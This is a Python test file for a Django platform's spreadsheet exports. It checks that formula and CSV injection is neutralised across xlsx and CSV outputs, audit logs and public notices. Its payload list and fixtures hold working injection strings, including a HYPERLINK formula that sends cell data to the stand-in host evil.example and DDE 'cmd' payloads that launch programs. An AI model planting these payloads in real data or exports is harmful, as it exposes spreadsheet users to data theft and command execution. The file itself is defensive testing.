"""Issue 16, items 1 and 5: hostile text never becomes a formula or breaks a spreadsheet.

Every free-text field that reaches an export (project names, contacts, organisation names, a
公示 title and contact, a failed login's username) holds a formula payload or control
characters; then every xlsx and CSV the platform writes is read back cell by cell: no cell is a
formula (openpyxl ``data_type 'f'``), no text starts with = + - @ (or a tab / carriage return),
and the numbers are still numbers (a negative ``net`` included).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from duixian.applications.models import Application
from duixian.core import spreadsheets
from duixian.orgs.models import Organisation
from tests.decisions.conftest import make_recommended, published, recommended  # noqa: F401
from tests.review.conftest import at

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "ctl\x01user\x1b",
            # review of issue 16: a lead behind white space (LibreOffice's "trim spaces" CSV import
            # evaluates " =1+1"), behind a line break, and the full-width signs an IME types
            " =1+1", "\u3000=1+1", "\n=1+1", "\xa0@SUM(1)", "＝1+1", "＋1", "－1+cmd|' /C calc'!A0", "＠SUM(1)"]
LEADS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _live_lead(text: str) -> bool:
    """A text a spreadsheet program could take as a formula: a lead, also behind white space."""
    return text.startswith(LEADS) or text.lstrip().startswith(LEADS)


def xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def assert_safe_xlsx(content: bytes) -> list:
    values = []
    for title, cell in xlsx_cells(content):
        assert cell.data_type != "f", f"{title}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not _live_lead(cell.value), f"{title}!{cell.coordinate}: {cell.value!r}"
            assert "\x01" not in cell.value and "\x1b" not in cell.value
        values.append(cell.value)
    return values


def _is_number(value: str) -> bool:
    try:
        Decimal(value)
    except ArithmeticError:
        return False
    return True


def assert_safe_csv(content: bytes, numeric: set[str] = frozenset()) -> list[list[str]]:
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header = table[0]
    for row in table[1:]:
        for name, value in zip(header, row):
            if name in numeric:
                assert value == "" or _is_number(value), (name, value, row)
                continue
            assert not _live_lead(value), f"{name}: {value!r}"
    return table


def test_the_writer_neutralises_text_and_keeps_numbers():
    assert spreadsheets.safe_text(HYPERLINK) == "'" + HYPERLINK
    assert spreadsheets.safe_text("ctl\x01user\x1b") == "ctl\\x01user\\x1b"
    assert spreadsheets.safe_text("第一行\n第二行") == "第一行\n第二行"
    assert spreadsheets.cell_value(Decimal("-3.5")) == Decimal("-3.5") and spreadsheets.cell_value(-2) == -2
    assert spreadsheets.csv_field("-12.5", numeric=True) == "-12.5"
    assert spreadsheets.csv_field("-12.5+cmd", numeric=True) == "'-12.5+cmd"
    assert spreadsheets.csv_field("-12.5") == "'-12.5"
    for payload in PAYLOADS:
        assert not _live_lead(spreadsheets.safe_text(payload)), payload
        assert not _live_lead(spreadsheets.csv_field(payload)), payload
        assert not _live_lead(spreadsheets.csv_field(payload, numeric=True)), payload
    assert spreadsheets.safe_text(" =1+1") == "' =1+1"
    assert spreadsheets.safe_text("＝1+1") == "'＝1+1"
    assert spreadsheets.safe_text("  项目 - 一期") == "  项目 - 一期"  # a sign later on is harmless


@pytest.fixture
def hostile_recommended(users, time_machine):
    """Two recommended 合肥 applications whose names and contacts are payloads, an organisation
    name that is one too (an applicant registers it)."""
    time_machine.move_to(at("2026-04-22 09:00:00"), tick=False)
    apps = [make_recommended(users["hefei_applicant"], users["hefei_clerk"], f"项目{n}") for n in range(2)]
    # Stored as typed: whatever the forms accept today, an export must not trust its data.
    Application.objects.filter(pk=apps[0].pk).update(project_name=HYPERLINK, contact_name=DDE, contact_phone="")
    Application.objects.filter(pk=apps[1].pk).update(project_name="ctl\x01name\x1b", contact_name=" =HYPERLINK(\"http://evil.example\")")
    Organisation.objects.filter(pk=users["hefei_applicant"].organisation_id).update(name="-2+3+cmd|' /C calc'!A0")
    time_machine.move_to(at("2026-05-20 10:00:00"), tick=False)
    return [Application.objects.get(pk=a.pk) for a in apps]


def test_city_summary_xlsx_has_no_formula(client, users, hostile_recommended):
    from duixian.exports.summary import summary_data, summary_xlsx
    from duixian.review.models import CityContact

    CityContact.objects.create(city_code="340100", contact_name="ctl\x07clerk", contact_phone="=1+1")
    values = assert_safe_xlsx(summary_xlsx(summary_data("340100")))
    assert "'" + HYPERLINK in values and "ctl\\x01name\\x1b" in values and "'" + DDE in values
    assert "联系人及联系方式：ctl\\x07clerk =1+1" in values
    # the browser download is the same file
    client.force_login(users["hefei_clerk"])
    response = client.get("/exports/city/340100/summary.xlsx")
    assert response.status_code == 200
    assert "'" + HYPERLINK in assert_safe_xlsx(response.content)
    assert Decimal("24.00") in [Decimal(str(v)) for v in values if isinstance(v, (int, float))]


def test_public_gongshi_xlsx_has_no_formula(client, users, hostile_recommended, time_machine):
    from duixian.decisions.services import decision_approve, publication_create

    for app in hostile_recommended:
        decision_approve(app, amount="24", user=users["province"], without_panel_reason="测试：不经专家评分")
    time_machine.move_to(at("2026-06-18 10:00:00"), tick=False)
    publication = publication_create(applications=hostile_recommended, working_days=5, title=DDE,
                                     contact="=1+1 省科技厅", user=users["province"])
    response = client.get(f"/public/gongshi/{publication.pk}.xlsx")
    assert response.status_code == 200
    values = assert_safe_xlsx(response.content)
    assert "'" + DDE in values and "'" + HYPERLINK in values
    assert 24 in values  # the amount is still a number


def test_sandbox_xlsx_has_no_formula(client, users, hostile_recommended):
    client.force_login(users["province"])
    response = client.get("/sandbox/export.xlsx", {"parameter": "clause2_cap_wan", "value": "150"})
    assert response.status_code == 200
    values = assert_safe_xlsx(response.content)
    assert "'" + HYPERLINK in values


@pytest.fixture
def hostile_run(users, time_machine):
    from duixian.compute.demo import SAMPLE
    from duixian.compute.services import metering_import, subsidy_run

    time_machine.move_to(at("2026-05-10 09:00:00"), tick=False)
    Organisation.objects.filter(pk=users["hefei_applicant"].organisation_id).update(name=HYPERLINK)
    Organisation.objects.filter(pk=users["wuhu_applicant"].organisation_id).update(name="ctl\x01org\x1b")
    metering_import(SAMPLE, original_name=SAMPLE.name)
    return subsidy_run(user=users["province"])


def test_compute_lists_have_no_formula_and_keep_negative_numbers(client, users, hostile_run):
    from duixian.compute import output
    from duixian.compute.engine import SubsidyResult as Result

    client.force_login(users["province"])
    response = client.get(reverse("compute:run_export", args=[hostile_run.pk]))
    values = assert_safe_xlsx(response.content)
    assert "'" + HYPERLINK in values and "ctl\\x01org\\x1b" in values

    # `duixian subsidy compute` output: the same results as CSV and xlsx
    results = [Result(uscc=r.uscc, name=r.name, used=r.used, provided=r.provided, net=r.net,
                      excluded={b: getattr(r, f"excluded_{b}") for b in output.BUCKETS},
                      eligible=r.eligible, reasons=list(r.reasons) + ["=1+1"], subsidy_quantity=r.subsidy_quantity)
               for r in hostile_run.results.all()]
    table = assert_safe_csv(output.render(results, "csv"), numeric=set(output.QUANTITY_COLUMNS))
    nets = [Decimal(row[table[0].index("net")]) for row in table[1:]]
    assert any(n < 0 for n in nets), "the sample has a provider with a negative net use"
    values = assert_safe_xlsx(output.render(results, "xlsx"))
    assert any(isinstance(v, (int, float)) and v < 0 for v in values)
    assert "'" + HYPERLINK in values


def test_registry_templates_have_no_formula(client, users):
    from duixian.registries.kinds import KINDS

    client.force_login(users["province"])
    for kind in KINDS:
        xlsx = client.get(f"/registries/templates/{kind}.xlsx")
        assert xlsx.status_code == 200
        assert_safe_xlsx(xlsx.content)
        assert_safe_csv(client.get(f"/registries/templates/{kind}.csv").content)


def test_hostile_login_names_never_break_the_audit_export(client, users, time_machine):
    """Issue 16 item 5: a failed login as `ctl\\x01user\\x1b` made every xlsx export answer 500."""
    from duixian.audit.models import AuditEvent
    from duixian.audit.services import audit_record

    time_machine.move_to(at("2026-04-22 09:00:00"), tick=False)
    for name in PAYLOADS:
        client.post(reverse("accounts:login"), {"username": name, "password": "wrong"})
        # The login form may refuse control characters before anything is audited now; rows
        # like these were stored before and stay for ever (append-only): the export must cope.
        if not AuditEvent.objects.filter(action="login", username=name).exists():
            audit_record("login", username=name, outcome="failure")
    client.force_login(users["audit_admin"])
    response = client.get("/audit/export/", {"format": "xlsx", "outcome": "failure"})
    assert response.status_code == 200
    values = assert_safe_xlsx(response.content)
    assert "ctl\\x01user\\x1b" in values and "'" + HYPERLINK in values
    response = client.get("/audit/export/", {"format": "csv", "outcome": "failure"})
    assert response.status_code == 200
    table = assert_safe_csv(response.content, numeric={"序号"})
    assert "ctl\\x01user\\x1b" in [row[2] for row in table[1:]]
    # The page shows the control characters as escapes, not as invisible bytes.
    page = client.get("/audit/", {"outcome": "failure"}).content.decode()
    assert "ctl\\x01user\\x1b" in page and "\x01" not in page and "\x1b" not in page


def test_every_module_that_writes_a_spreadsheet_uses_the_one_writer():
    """A new export that builds a workbook or a CSV writer without duixian/core/spreadsheets.py
    fails here (reading files, e.g. registries/parsing.py, is not writing)."""
    import re
    from pathlib import Path

    import duixian

    root = Path(duixian.__file__).parent
    writes = re.compile(r"Workbook\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = []
    for path in root.rglob("*.py"):
        if "migrations" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if writes.search(text) and "spreadsheets" not in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
